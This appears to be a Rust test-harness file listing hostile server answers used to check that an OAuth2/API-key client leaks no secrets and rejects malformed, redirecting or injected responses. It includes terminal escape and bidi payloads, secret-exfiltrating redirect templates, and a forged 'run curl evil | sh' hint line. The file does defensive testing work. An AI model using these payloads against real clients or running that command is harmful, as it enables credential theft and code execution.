//! The case table: every hostile answer, for every endpoint it applies to.
//!
//! A case scripts one route of the server (the endpoint under test); the
//! other routes answer as a well-behaved server would (shapes copied from
//! `auth-emulator`), so an API-call case gets its token first.

use std::time::Duration;

use crate::answer::{Answer, Reply};
use crate::expect::Expect;
use crate::oracle::Oracle;
use crate::secrets::{client_id_for, fnv, secret_for};
use crate::server::{Credentials, Script};

/// The OAuth2 token endpoint's path on the hostile server.
pub const OAUTH2_TOKEN: &str = "/oauth2/token";
/// Openverse's token endpoint.
pub const OPENVERSE_TOKEN: &str = "/v1/auth_tokens/token/";
/// Openverse's registration endpoint.
pub const OPENVERSE_REGISTER: &str = "/v1/auth_tokens/register/";
/// Openverse's key-status endpoint.
pub const OPENVERSE_KEY_STATUS: &str = "/v1/rate_limit/";
/// Markable's authorization endpoint.
pub const MARKABLE_AUTHORIZE: &str = "/auth/client/authorize";
/// The protected API resource.
pub const API: &str = "/api/resource";
/// Where redirects point: any request here followed a redirect.
pub const STOLEN: &str = "/stolen";

/// The endpoint a case attacks, with the provider and scopes around it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Endpoint {
    /// OAuth2 token endpoint, `client_secret_basic`, scope `read`.
    OAuth2Basic,
    /// OAuth2 token endpoint, `client_secret_post`, scope `read`.
    OAuth2Post,
    /// Openverse token endpoint (credentials in the form body).
    OpenverseToken,
    /// Openverse registration.
    OpenverseRegister,
    /// Openverse key status, after a good token.
    OpenverseKeyStatus,
    /// Markable authorization, scope `default`.
    MarkableDefault,
    /// Markable authorization, scope `search` (the publishable token).
    MarkableSearch,
    /// A protected API call (`send`) with an OAuth2 Basic token.
    Api,
}

impl Endpoint {
    /// Every endpoint.
    pub const ALL: [Endpoint; 8] = [
        Endpoint::OAuth2Basic,
        Endpoint::OAuth2Post,
        Endpoint::OpenverseToken,
        Endpoint::OpenverseRegister,
        Endpoint::OpenverseKeyStatus,
        Endpoint::MarkableDefault,
        Endpoint::MarkableSearch,
        Endpoint::Api,
    ];

    /// The name used in case names.
    #[must_use]
    pub fn label(self) -> &'static str {
        match self {
            Endpoint::OAuth2Basic => "oauth2-basic",
            Endpoint::OAuth2Post => "oauth2-post",
            Endpoint::OpenverseToken => "openverse-token",
            Endpoint::OpenverseRegister => "openverse-register",
            Endpoint::OpenverseKeyStatus => "openverse-key-status",
            Endpoint::MarkableDefault => "markable-default",
            Endpoint::MarkableSearch => "markable-search",
            Endpoint::Api => "api",
        }
    }

    /// The route the case scripts.
    #[must_use]
    pub fn target(self) -> &'static str {
        match self {
            Endpoint::OAuth2Basic | Endpoint::OAuth2Post => OAUTH2_TOKEN,
            Endpoint::OpenverseToken => OPENVERSE_TOKEN,
            Endpoint::OpenverseRegister => OPENVERSE_REGISTER,
            Endpoint::OpenverseKeyStatus => OPENVERSE_KEY_STATUS,
            Endpoint::MarkableDefault | Endpoint::MarkableSearch => MARKABLE_AUTHORIZE,
            Endpoint::Api => API,
        }
    }

    /// The token route of the provider the case uses, if it fetches one.
    #[must_use]
    pub fn token_route(self) -> Option<&'static str> {
        match self {
            Endpoint::OAuth2Basic | Endpoint::OAuth2Post | Endpoint::Api => Some(OAUTH2_TOKEN),
            Endpoint::OpenverseToken | Endpoint::OpenverseKeyStatus => Some(OPENVERSE_TOKEN),
            Endpoint::MarkableDefault | Endpoint::MarkableSearch => Some(MARKABLE_AUTHORIZE),
            Endpoint::OpenverseRegister => None,
        }
    }

    /// Whether the scripted route is where the client secret is sent.
    #[must_use]
    pub fn sends_secret(self) -> bool {
        self.token_route() == Some(self.target())
    }

    /// The dialect of the token route.
    fn dialect(self) -> Dialect {
        match self {
            Endpoint::OAuth2Basic | Endpoint::OAuth2Post | Endpoint::Api => Dialect::OAuth2,
            Endpoint::OpenverseToken
            | Endpoint::OpenverseKeyStatus
            | Endpoint::OpenverseRegister => Dialect::Openverse,
            Endpoint::MarkableDefault => Dialect::Markable("default"),
            Endpoint::MarkableSearch => Dialect::Markable("search"),
        }
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Dialect {
    OAuth2,
    Openverse,
    Markable(&'static str),
}

impl Dialect {
    /// A good token answer carrying `token`.
    fn token_body(self, token: &str) -> String {
        match self {
            Dialect::OAuth2 => format!(
                r#"{{"access_token":"{token}","token_type":"Bearer","expires_in":3600,"scope":"read"}}"#
            ),
            Dialect::Openverse => format!(
                r#"{{"access_token":"{token}","scope":"read write groups","expires_in":36000,"token_type":"Bearer"}}"#
            ),
            Dialect::Markable(scope) => format!(
                r#"{{"data":{{"access_token":"{token}","scope":"{scope}","client_id":"{{{{id|json}}}}","expires_at":"2099-01-01T00:00:00Z"}}}}"#
            ),
        }
    }

    /// A token-shaped answer: the dialect's success body with `inner` as
    /// the object that holds the token fields.
    fn token_object(self, inner: &str) -> String {
        match self {
            Dialect::Markable(_) => format!(r#"{{"data":{inner}}}"#),
            _ => inner.to_owned(),
        }
    }

    /// The dialect's error answer: an RFC 6749 §5.2 object, or Markable's
    /// JSON:API errors. `description` is inserted as is (a JSON string's
    /// inside, templates allowed).
    fn error(self, status: u16, code: &str, description: &str) -> Answer {
        match self {
            Dialect::Markable(_) => Reply::json(
                status,
                format!(
                    r#"{{"errors":[{{"status":"{status}","title":"{code}","detail":"{description}"}}]}}"#
                ),
            )
            .answer(),
            _ => Reply::json(
                status,
                format!(r#"{{"error":"{code}","error_description":"{description}"}}"#),
            )
            .answer(),
        }
    }
}

/// One hostile case.
#[derive(Clone, Debug)]
pub struct Case {
    /// `endpoint/what`, unique.
    pub name: String,
    /// What it attacks.
    pub endpoint: Endpoint,
    /// The answers of the scripted route, in turn (the last repeats).
    pub answers: Vec<Answer>,
    /// The right outcome.
    pub expect: Expect,
    /// Word groups the message must hold besides the expectation's own.
    pub mention: Vec<Vec<&'static str>>,
    /// Phrases the message must not hold besides the expectation's own.
    pub forbid: Vec<&'static str>,
    /// Tokens the answers carry that must never be accepted or shown.
    pub bait: Vec<String>,
    /// Most requests the scripted route may get from one run.
    pub max_hits: usize,
    /// CLI only: run the command again (the server gives its next answer)
    /// and expect this, e.g. that no stuck cache entry is left behind.
    pub followup: Option<Expect>,
    /// CLI only: the client secret of the second run, when it differs.
    pub followup_secret: Option<String>,
}

impl Case {
    fn new(endpoint: Endpoint, what: &str, answers: Vec<Answer>, expect: Expect) -> Self {
        let max_hits = match (&expect, endpoint) {
            // A rejected token is renewed and the call made once more.
            (Expect::ApiStatus { status: 401, .. }, _) | (Expect::KeyRejected(_), _) => 2,
            // Registrations, API calls and key-status calls are not retried.
            (_, Endpoint::OpenverseRegister | Endpoint::Api | Endpoint::OpenverseKeyStatus) => 1,
            (e, _) if e.is_final() => 1,
            // The first attempt and two retries (RefreshPolicy's
            // waiting_retries; docs/cli.md: "twice, with backoff").
            _ => 3,
        };
        Self {
            name: format!("{}/{what}", endpoint.label()),
            endpoint,
            answers,
            expect,
            mention: Vec::new(),
            forbid: Vec::new(),
            bait: Vec::new(),
            max_hits,
            followup: None,
            followup_secret: None,
        }
    }

    fn mention(mut self, words: &[&'static str]) -> Self {
        self.mention.push(words.to_vec());
        self
    }

    fn forbid(mut self, phrase: &'static str) -> Self {
        self.forbid.push(phrase);
        self
    }

    fn bait(mut self, token: String) -> Self {
        self.bait.push(token);
        self
    }

    fn hits(mut self, max: usize) -> Self {
        self.max_hits = max;
        self
    }

    /// The client id the case's client uses.
    #[must_use]
    pub fn client_id(&self) -> String {
        client_id_for(&self.name)
    }

    /// The client secret the case's client uses (for a registration: the
    /// secret the server issues).
    #[must_use]
    pub fn secret(&self) -> String {
        secret_for(&self.name)
    }

    /// The token a good answer of this case carries.
    #[must_use]
    pub fn legit_token(&self) -> String {
        legit_token(&self.name)
    }

    /// Every token the good token route issues, in turn (the first is
    /// [`Case::legit_token`]): none may appear where a token must not.
    #[must_use]
    pub fn issued_tokens(&self) -> Vec<String> {
        vec![
            legit_token(&self.name),
            legit_token(&format!("{}#2", self.name)),
            legit_token(&format!("{}#3", self.name)),
        ]
    }

    /// The server script: the scripted route, and good answers elsewhere.
    #[must_use]
    pub fn script(&self) -> Script {
        let dialect = self.endpoint.dialect();
        let good = |body: String| vec![Reply::json(200, body).answer()];
        // A well-behaved server issues a new token each time: the one an
        // API rejected must not come back (that is ReissuedRejectedToken).
        let tokens: Vec<Answer> = self
            .issued_tokens()
            .iter()
            .map(|t| Reply::json(200, dialect.token_body(t)).answer())
            .collect();
        let script = match self.endpoint.token_route() {
            Some(route) => Script::new().route(route, tokens),
            None => Script::new(),
        };
        script
            .route(
                OPENVERSE_KEY_STATUS,
                good(
                    r#"{"requests_this_minute":1,"requests_today":2,"rate_limit_model":"standard","verified":true}"#
                        .into(),
                ),
            )
            .route(API, good(r#"{"ok":true}"#.into()))
            .route(OPENVERSE_REGISTER, vec![register_ok(&self.client_id())])
            .route(self.endpoint.target(), self.answers.clone())
    }

    /// The credentials the server echoes when a request carries none.
    #[must_use]
    pub fn credentials(&self) -> Credentials {
        Credentials {
            id: self.client_id(),
            secret: self.secret(),
        }
    }

    /// The oracle for everything that must never be shown: the secret in
    /// every form, and every bait token.
    #[must_use]
    pub fn oracle(&self) -> Oracle {
        let mut o = Oracle::new();
        o.secret(&self.client_id(), &self.secret());
        if let Some(other) = &self.followup_secret {
            o.secret(&self.client_id(), other);
        }
        for b in &self.bait {
            o.token("bait token", b);
        }
        o
    }

    /// Whether a run must wait for a timeout.
    #[must_use]
    pub fn is_slow(&self) -> bool {
        self.answers.iter().any(Answer::is_slow)
    }
}

/// The token a good answer of case `name` carries: distinct per case, with
/// the b64token specials `+ / ~ .` in it.
#[must_use]
pub fn legit_token(name: &str) -> String {
    format!("legit-{:012x}.Tk+/~", fnv(name) & 0xffff_ffff_ffff)
}

/// A token a hostile answer carries, which must never be accepted or shown.
fn bait_token(name: &str) -> String {
    // Its own hash: a bait sharing digits with the legit token would match
    // the oracle's windows of it.
    format!(
        "bait-{:012x}.DoNotUse",
        fnv(&format!("bait:{name}")) & 0xffff_ffff_ffff
    )
}

fn register_ok(client_id: &str) -> Answer {
    Reply::json(
        201,
        format!(
            r#"{{"client_id":"{}","client_secret":"{{{{secret|json}}}}","name":"hostile app","msg":"Check your email for a verification link."}}"#,
            crate::encode::json(client_id)
        ),
    )
    .answer()
}

/// The token endpoints every generic family runs against.
const TOKEN_ENDPOINTS: [Endpoint; 4] = [
    Endpoint::OAuth2Basic,
    Endpoint::OAuth2Post,
    Endpoint::OpenverseToken,
    Endpoint::MarkableDefault,
];

/// Every case, in a fixed order.
#[must_use]
pub fn all() -> Vec<Case> {
    let mut cases = Vec::new();
    for ep in TOKEN_ENDPOINTS {
        transport_family(ep, &mut cases);
        redirect_family(ep, &mut cases);
        status_family(ep, &mut cases);
        malformed_family(ep, &mut cases);
        echo_family(ep, &mut cases);
        terminal_family(ep, &mut cases);
    }
    // The publishable-token path gets a sample of the same families.
    let mut search = Vec::new();
    let s = Endpoint::MarkableSearch;
    transport_family(s, &mut search);
    redirect_family(s, &mut search);
    echo_family(s, &mut search);
    terminal_family(s, &mut search);
    malformed_family(s, &mut search);
    const SAMPLE: &[&str] = &[
        "never-answers",
        "resets",
        "no-status-line",
        "redirect-307-secret-in-location",
        "echo-raw",
        "echo-form-plus",
        "echo-base64-id-secret",
        "terminal-osc-window-title",
        "terminal-crlf-forged-hint",
        "200-camel-case",
        "200-data-string",
    ];
    cases.extend(search.into_iter().filter(|c| {
        SAMPLE
            .iter()
            .any(|w| c.name == format!("{}/{w}", s.label()))
    }));
    markable_family(&mut cases);
    register_family(&mut cases);
    key_status_family(&mut cases);
    api_family(&mut cases);
    cases
}

fn ms(n: u64) -> Duration {
    Duration::from_millis(n)
}

/// Broken connections and broken HTTP, the same on every endpoint.
fn transport_family(ep: Endpoint, out: &mut Vec<Case>) {
    let d = ep.dialect();
    let name = |what: &str| format!("{}/{what}", ep.label());
    let ok = |what: &str| Reply::json(200, d.token_body(&legit_token(&name(what)))).answer();
    let bait = bait_token(&name("http09-body-only"));
    let cl_bait = bait_token(&name("conflicting-content-length"));
    let cl_body = d.token_body(&cl_bait);
    let thousand: String = (0..1000)
        .map(|i| format!("X-Hostile-{i}: {}\r\n", "v".repeat(20)))
        .collect();
    out.extend([
        Case::new(ep, "ok", vec![ok("ok")], Expect::Token),
        Case::new(ep, "never-answers", vec![Answer::Silent], Expect::Timeout),
        Case::new(
            ep,
            "trickle-one-byte-every-500ms",
            vec![ok("trickle-one-byte-every-500ms").trickled(ms(500))],
            Expect::Timeout,
        ),
        Case::new(
            ep,
            "answers-after-10s",
            vec![ok("answers-after-10s").after(Duration::from_secs(10))],
            // Slow but valid: a client whose timeout allows may wait for it.
            Expect::either(Expect::Timeout, Expect::Token),
        ),
        Case::new(ep, "closes-without-answer", vec![Answer::Close], Expect::Reset),
        Case::new(ep, "resets", vec![Answer::Reset], Expect::Reset),
        Case::new(
            ep,
            "closes-mid-body",
            vec![Answer::CutBody {
                reply: Reply::json(200, d.token_body(&legit_token("cut"))),
                keep: 12,
                reset: false,
            }],
            Expect::Body,
        ),
        Case::new(
            ep,
            "resets-mid-body",
            vec![Answer::CutBody {
                reply: Reply::json(200, d.token_body(&legit_token("cut"))),
                keep: 12,
                reset: true,
            }],
            Expect::Body,
        ),
        Case::new(
            ep,
            "no-status-line",
            vec![Answer::Raw(
                "hello, this is not http\r\nat all\r\n\r\n".into(),
            )],
            Expect::Protocol,
        ),
        Case::new(
            ep,
            "http09-body-only",
            vec![Answer::Raw(d.token_body(&bait))],
            Expect::Protocol,
        )
        .bait(bait),
        Case::new(
            ep,
            "bad-chunked-encoding",
            vec![Answer::Raw(
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{\"access_token\":\r\n0\r\n\r\n"
                    .into(),
            )],
            Expect::BrokenBody,
        ),
        Case::new(
            ep,
            "1000-headers",
            vec![Answer::Raw(format!(
                "HTTP/1.1 200 OK\r\n{thousand}Content-Length: 2\r\n\r\n{{}}"
            ))],
            Expect::Protocol,
        ),
        Case::new(
            ep,
            "negative-content-length",
            vec![Answer::Raw(
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: -5\r\n\r\n{}"
                    .into(),
            )],
            Expect::Protocol,
        ),
        Case::new(
            ep,
            "conflicting-content-length",
            vec![Answer::Raw(format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 7\r\nContent-Length: {}\r\n\r\n{cl_body}",
                cl_body.len()
            ))],
            Expect::BrokenBody,
        )
        .bait(cl_bait),
        Case::new(
            ep,
            "huge-body-content-length",
            vec![Answer::Endless { chunked: false }],
            Expect::TooLarge,
        ),
        Case::new(
            ep,
            "huge-body-chunked",
            vec![Answer::Endless { chunked: true }],
            Expect::TooLarge,
        ),
    ]);
}

/// Redirects whose `Location` carries the secret: never followed, never
/// shown, wherever the secret sits in a long URL.
fn redirect_family(ep: Endpoint, out: &mut Vec<Case>) {
    let long = "a".repeat(40);
    let variants: [(u16, String); 4] = [
        (301, "{{other}}/stolen?client_secret={{secret.form}}".into()),
        (
            302,
            "{{other}}/stolen?s={{secret.pct}}&t={{secret.pct.lower}}".into(),
        ),
        (307, "{{other}}/stolen?auth={{basic.form}}&raw={{basic}}".into()),
        (
            308,
            format!("{{{{other}}}}/stolen/{long}?client_secret={{{{secret.form20}}}}&b={{{{basic.form.url}}}}"),
        ),
    ];
    for (status, location) in variants {
        out.push(
            Case::new(
                ep,
                &format!("redirect-{status}-secret-in-location"),
                vec![Reply::json(status, r#"{"moved":true}"#)
                    .header("Location", location)
                    .answer()],
                Expect::Redirect,
            )
            .mention(&[status_text(status)]),
        );
    }
}

fn status_text(status: u16) -> &'static str {
    match status {
        301 => "301",
        302 => "302",
        307 => "307",
        _ => "308",
    }
}

/// Statuses with hostile bodies and headers.
fn status_family(ep: Endpoint, out: &mut Vec<Case>) {
    let d = ep.dialect();
    out.extend([
        Case::new(
            ep,
            "500-html-echoes-secret",
            vec![Reply::new(
                500,
                "text/html",
                "<html><p>Traceback: client_secret={{secret}} auth={{authz}}</p></html>",
            )
            .answer()],
            Expect::Server,
        ),
        Case::new(
            ep,
            "502-text-bidi-and-esc",
            vec![Reply::new(
                502,
                "text/plain",
                "bad gateway \u{202e}lmth.exe\u{202c} \u{1b}[2J \u{9b}31m",
            )
            .answer()],
            Expect::Server,
        ),
        Case::new(
            ep,
            "503-retry-after-absurd",
            vec![Reply::json(503, r#"{"detail":"down"}"#)
                .header("Retry-After", "99999999999")
                .answer()],
            Expect::Server,
        )
        .forbid("99999999999")
        .hits(1),
        Case::new(
            ep,
            "429-retry-after-overflow",
            vec![Reply::json(429, r#"{"detail":"slow down"}"#)
                .header("Retry-After", "999999999999999999999999999999")
                .answer()],
            Expect::RateLimited,
        )
        .forbid("999999999999")
        .forbid("18446744073709551615")
        .hits(1),
        Case::new(
            ep,
            "429-retry-after-negative",
            vec![Reply::json(429, r#"{"detail":"slow down"}"#)
                .header("Retry-After", "-5")
                .answer()],
            Expect::RateLimited,
        ),
        Case::new(
            ep,
            "429-retry-after-far-date",
            vec![Reply::json(429, r#"{"detail":"slow down"}"#)
                .header("Retry-After", "Fri, 31 Dec 9999 23:59:59 GMT")
                .answer()],
            Expect::RateLimited,
        )
        .hits(1),
        Case::new(
            ep,
            "401-no-body",
            vec![Reply::empty(401).answer()],
            Expect::Credentials,
        ),
        Case::new(
            ep,
            "403-html-echoes-authorization",
            vec![Reply::new(
                403,
                "text/html",
                "<h1>Forbidden</h1><pre>{{authz}} {{body}}</pre>",
            )
            .answer()],
            Expect::Status(403),
        ),
        Case::new(
            ep,
            "404-text-echoes-request-body",
            vec![Reply::new(404, "text/plain", "no such endpoint; you sent: {{body}}").answer()],
            Expect::Status(404),
        ),
        Case::new(
            ep,
            "418-json-echoes-form-secret",
            vec![Reply::json(
                418,
                r#"{"message":"client_secret={{secret.form}}&x={{secret.form20.lower}}"}"#,
            )
            .answer()],
            Expect::Status(418),
        ),
        Case::new(
            ep,
            "400-invalid-scope",
            vec![d.error(400, "invalid_scope", "scope `read` is not allowed here")],
            Expect::Scope,
        ),
    ]);
    if d != Dialect::Markable("default") {
        out.extend([
            Case::new(
                ep,
                "400-unsupported-grant-type",
                vec![d.error(400, "unsupported_grant_type", "no client credentials here")],
                Expect::BadRequest,
            ),
            Case::new(
                ep,
                "400-error-code-echoes-secret",
                vec![Reply::json(400, r#"{"error":"{{secret|json}}"}"#).answer()],
                Expect::OtherCode,
            ),
            Case::new(
                ep,
                "400-error-code-esc",
                vec![Reply::json(400, r#"{"error":"\u001b]0;pwned\u0007\u001b[2Jbad"}"#).answer()],
                Expect::OtherCode,
            ),
        ]);
    }
}

/// 200s that are not token answers, several of them carrying a token the
/// client must neither accept nor show.
fn malformed_family(ep: Endpoint, out: &mut Vec<Case>) {
    let d = ep.dialect();
    let name = |what: &str| format!("{}/{what}", ep.label());
    let bait = |what: &str| bait_token(&name(what));
    let token_case = |what: &str, body: String, expect: Expect| {
        Case::new(ep, what, vec![Reply::json(200, body).answer()], expect).bait(bait(what))
    };
    out.extend([
        Case::new(
            ep,
            "200-empty-body",
            vec![Reply::empty(200).answer()],
            Expect::Malformed,
        ),
        Case::new(
            ep,
            "200-html-with-token",
            vec![Reply::new(
                200,
                "text/html",
                format!("<html>your token: {}</html>", bait("200-html-with-token")),
            )
            .answer()],
            Expect::Malformed,
        )
        .bait(bait("200-html-with-token")),
        token_case(
            "200-bare-json-string",
            format!("\"{}\"", bait("200-bare-json-string")),
            Expect::Malformed,
        ),
        token_case(
            "200-data-string",
            format!(r#"{{"data":"{}"}}"#, bait("200-data-string")),
            Expect::Malformed,
        ),
        token_case(
            "200-camel-case",
            d.token_object(&format!(
                r#"{{"accessToken":"{}","expiresIn":3600,"tokenType":"Bearer"}}"#,
                bait("200-camel-case")
            )),
            Expect::Malformed,
        ),
        token_case(
            "200-token-in-array",
            d.token_object(&format!(
                r#"{{"access_token":["{}"],"expires_in":3600}}"#,
                bait("200-token-in-array")
            )),
            Expect::Malformed,
        ),
        token_case(
            "200-token-with-crlf",
            d.token_object(&format!(
                r#"{{"access_token":"{}\r\nX-Injected: 1","expires_in":3600}}"#,
                bait("200-token-with-crlf")
            )),
            Expect::Malformed,
        ),
        token_case(
            "200-token-with-esc",
            d.token_object(&format!(
                r#"{{"access_token":"\u001b[2J{}","expires_in":3600}}"#,
                bait("200-token-with-esc")
            )),
            Expect::Malformed,
        ),
        token_case(
            "200-expires-in-negative",
            d.token_object(&format!(
                r#"{{"access_token":"{}","expires_in":-5}}"#,
                bait("200-expires-in-negative")
            )),
            Expect::Malformed,
        ),
        token_case(
            "200-expires-in-echoes-secret",
            d.token_object(&format!(
                r#"{{"access_token":"{}","expires_in":"{{{{secret|json}}}}"}}"#,
                bait("200-expires-in-echoes-secret")
            )),
            Expect::Malformed,
        ),
        token_case(
            "200-token-type-echoes-secret",
            d.token_object(&format!(
                r#"{{"access_token":"{}","token_type":"{{{{secret.form|json}}}}"}}"#,
                bait("200-token-type-echoes-secret")
            )),
            Expect::TokenType,
        ),
        Case::new(
            ep,
            "200-token-type-empty",
            vec![Reply::json(
                200,
                d.token_object(&format!(
                    r#"{{"access_token":"{}","token_type":"","expires_in":3600}}"#,
                    legit_token(&name("200-token-type-empty"))
                )),
            )
            .answer()],
            Expect::either(Expect::Token, Expect::TokenType),
        )
        .forbid("``"),
        Case::new(
            ep,
            "200-with-error-object-echoing-secret",
            vec![Reply::json(
                200,
                r#"{"error":"invalid_client","error_description":"{{secret.form}} / {{basic.form}}"}"#,
            )
            .answer()],
            Expect::either(Expect::Credentials, Expect::Malformed),
        ),
        Case::new(
            ep,
            "200-ok-with-echo-field",
            vec![Reply::json(
                200,
                d.token_object(&format!(
                    r#"{{"access_token":"{}","expires_in":3600,"debug":"{{{{secret|json}}}} {{{{authz|json}}}} {{{{body|json}}}}"}}"#,
                    legit_token(&name("200-ok-with-echo-field"))
                )),
            )
            .answer()],
            Expect::Token,
        ),
    ]);
}

/// The error answer echoes the secret in one encoding each.
fn echo_family(ep: Endpoint, out: &mut Vec<Case>) {
    let d = ep.dialect();
    let mut encodings: Vec<(&str, &str)> = vec![
        ("raw", "{{secret|json}}"),
        ("json-escaped", "{{secret.json|json}}"),
        ("debug-escaped", "{{secret.debug|json}}"),
        ("form-plus", "{{secret.form}}"),
        ("form-plus-lowercase-hex", "{{secret.form.lower}}"),
        ("form-pct20", "{{secret.form20}}"),
        ("form-pct20-lowercase-hex", "{{secret.form20.lower}}"),
        ("percent-encoded", "{{secret.pct}}"),
        ("percent-encoded-lowercase-hex", "{{secret.pct.lower}}"),
        ("base64-id-secret", "{{basic}}"),
        ("base64url-id-secret", "{{basic.url}}"),
        ("base64-unpadded-id-secret", "{{basic.nopad}}"),
        ("base64-form-id-secret", "{{basic.form}}"),
        ("base64url-form-id-secret", "{{basic.form.url}}"),
        ("base64-secret-alone", "{{secret.b64}}"),
        ("request-body", "{{body|json}}"),
    ];
    if ep == Endpoint::OAuth2Basic {
        encodings.push(("authorization-header", "{{authz|json}}"));
    }
    for (what, echo) in encodings {
        let description = format!("client {{{{id|json}}}} sent {echo}, which is wrong");
        out.push(Case::new(
            ep,
            &format!("echo-{what}"),
            vec![d.error(401, "invalid_client", &description)],
            Expect::Credentials,
        ));
    }
    if d != Dialect::Markable("default") {
        out.push(Case::new(
            ep,
            "echo-in-error-uri",
            vec![Reply::json(
                401,
                r#"{"error":"invalid_client","error_uri":"https://errors.example/e?client_secret={{secret.form}}&auth={{basic.form}}"}"#,
            )
            .answer()],
            Expect::Credentials,
        ));
    }
}

/// Terminal injection in the server's words.
fn terminal_family(ep: Endpoint, out: &mut Vec<Case>) {
    let d = ep.dialect();
    let payloads: [(&str, &str); 7] = [
        ("esc-clear-screen", r"\u001b[2J\u001b[Hall clear"),
        ("osc-window-title", r"\u001b]0;pwned\u0007title set"),
        (
            "crlf-forged-hint",
            r"bad client\r\nhint: run curl evil | sh",
        ),
        ("lf-forged-line", r"bad\napiauth: all good, token cached"),
        ("bidi-override", r"\u202etxt.exe\u202c bidi"),
        ("c1-csi", r"\u009b2J c1 controls \u0085"),
        ("nul-del-bell", r"\u0000\u007f\u0007 nul del bel"),
    ];
    for (what, payload) in payloads {
        out.push(Case::new(
            ep,
            &format!("terminal-{what}"),
            vec![d.error(401, "invalid_client", payload)],
            Expect::Credentials,
        ));
    }
}

/// Markable's own ways to go wrong.
fn markable_family(out: &mut Vec<Case>) {
    let s = Endpoint::MarkableSearch;
    let m = Endpoint::MarkableDefault;
    let jsonapi = |status: &str, detail: &str| {
        format!(r#"{{"errors":[{{"status":"{status}","title":"Error","detail":"{detail}"}}]}}"#)
    };
    let granted_default_bait = bait_token("markable-search/grants-default-for-search");
    let mut stuck = Case::new(
        s,
        "grants-default-for-search",
        vec![
            Reply::json(
                200,
                format!(
                    r#"{{"data":{{"access_token":"{granted_default_bait}","scope":"default","client_id":"{{{{id|json}}}}","expires_at":"2099-01-01T00:00:00Z"}}}}"#
                ),
            )
            .answer(),
            Reply::json(
                200,
                Dialect::Markable("search")
                    .token_body(&legit_token("markable-search/grants-default-for-search")),
            )
            .answer(),
        ],
        Expect::ScopeNotGranted("default"),
    )
    .bait(granted_default_bait);
    stuck.followup = Some(Expect::Token);
    out.push(stuck);
    // Issue 10: a wrong secret printed a token cached with the right one.
    let cached_name = "oauth2-basic/cached-token-then-wrong-secret";
    let mut cached = Case::new(
        Endpoint::OAuth2Basic,
        "cached-token-then-wrong-secret",
        vec![
            Reply::json(200, Dialect::OAuth2.token_body(&legit_token(cached_name))).answer(),
            Dialect::OAuth2.error(401, "invalid_client", "client authentication failed"),
        ],
        Expect::Token,
    );
    cached.followup = Some(Expect::Credentials);
    cached.followup_secret = Some(format!("{}-but-wrong", secret_for(cached_name)));
    out.push(cached);
    out.extend([
        Case::new(
            s,
            "ok",
            vec![Reply::json(
                200,
                Dialect::Markable("search").token_body(&legit_token("markable-search/ok")),
            )
            .answer()],
            Expect::Token,
        ),
        Case::new(
            s,
            "ok-minimal-no-scope-field",
            vec![Reply::json(
                200,
                format!(
                    r#"{{"data":{{"access_token":"{}"}}}}"#,
                    legit_token("markable-search/ok-minimal-no-scope-field")
                ),
            )
            .answer()],
            Expect::Token,
        ),
        Case::new(
            s,
            "grants-default-and-search",
            vec![Reply::json(
                200,
                format!(
                    r#"{{"data":{{"access_token":"{}","scope":"default search"}}}}"#,
                    bait_token("markable-search/grants-default-and-search")
                ),
            )
            .answer()],
            Expect::ScopeNotGranted("default"),
        )
        .bait(bait_token("markable-search/grants-default-and-search")),
        Case::new(
            s,
            "200-jsonapi-401",
            vec![Reply::json(200, jsonapi("401", "Invalid client credentials")).answer()],
            Expect::Credentials,
        ),
        Case::new(
            m,
            "200-jsonapi-401",
            vec![Reply::json(200, jsonapi("401", "Invalid client credentials")).answer()],
            Expect::Credentials,
        ),
        Case::new(
            m,
            "200-jsonapi-403-scope",
            vec![Reply::json(
                200,
                jsonapi(
                    "403",
                    "This client may not request the \\\"default\\\" scope",
                ),
            )
            .answer()],
            Expect::either(Expect::Credentials, Expect::Scope),
        ),
        Case::new(
            m,
            "200-jsonapi-500",
            vec![Reply::json(200, jsonapi("500", "Internal error")).answer()],
            Expect::either(Expect::Server, Expect::Malformed),
        ),
        Case::new(
            m,
            "401-jsonapi-echoes-request-json",
            vec![Reply::json(401, jsonapi("401", "you sent {{body|json}}")).answer()],
            Expect::Credentials,
        ),
        Case::new(
            m,
            "422-jsonapi-unknown-scope",
            vec![Reply::json(
                422,
                jsonapi(
                    "422",
                    "Unknown scope \\\"default\\\"; expected \\\"search\\\"",
                ),
            )
            .answer()],
            Expect::Scope,
        ),
        Case::new(
            m,
            "400-errors-not-an-array-echoing-secret",
            vec![Reply::json(400, r#"{"errors":"{{secret|json}} {{secret.form}}"}"#).answer()],
            Expect::Status(400),
        ),
        Case::new(
            m,
            "401-empty-errors",
            vec![Reply::json(401, r#"{"errors":[]}"#).answer()],
            Expect::Credentials,
        ),
        Case::new(
            m,
            "200-expires-at-echoes-secret",
            vec![Reply::json(
                200,
                format!(
                    r#"{{"data":{{"access_token":"{}","expires_at":"{{{{secret|json}}}}"}}}}"#,
                    bait_token("markable-default/200-expires-at-echoes-secret")
                ),
            )
            .answer()],
            Expect::Malformed,
        )
        .bait(bait_token("markable-default/200-expires-at-echoes-secret")),
        Case::new(
            m,
            "401-jsonapi-terminal-title",
            vec![Reply::json(
                401,
                jsonapi(
                    "401",
                    r"\u001b]0;pwned\u0007\u001b[2J\r\nhint: run curl evil | sh",
                ),
            )
            .answer()],
            Expect::Credentials,
        ),
    ]);
}

/// Registration answers: the new secret is the one to protect.
fn register_family(out: &mut Vec<Case>) {
    let r = Endpoint::OpenverseRegister;
    let reg = |fields: &str| {
        Reply::json(
            201,
            format!(r#"{{{fields},"client_secret":"{{{{secret|json}}}}"}}"#),
        )
        .answer()
    };
    let id = |case: &str| crate::encode::json(&client_id_for(&format!("{}/{case}", r.label())));
    out.extend([
        Case::new(
            r,
            "ok",
            vec![reg(&format!(
                r#""client_id":"{}","name":"hostile app","msg":"Check your email for a verification link.""#,
                id("ok")
            ))],
            Expect::Registered,
        ),
        Case::new(
            r,
            "ok-200-old-server",
            vec![Reply::json(
                200,
                format!(
                    r#"{{"client_id":"{}","client_secret":"{{{{secret|json}}}}","name":"hostile app"}}"#,
                    id("ok-200-old-server")
                ),
            )
            .answer()],
            Expect::Registered,
        ),
        Case::new(
            r,
            "msg-echoes-new-secret",
            vec![reg(&format!(
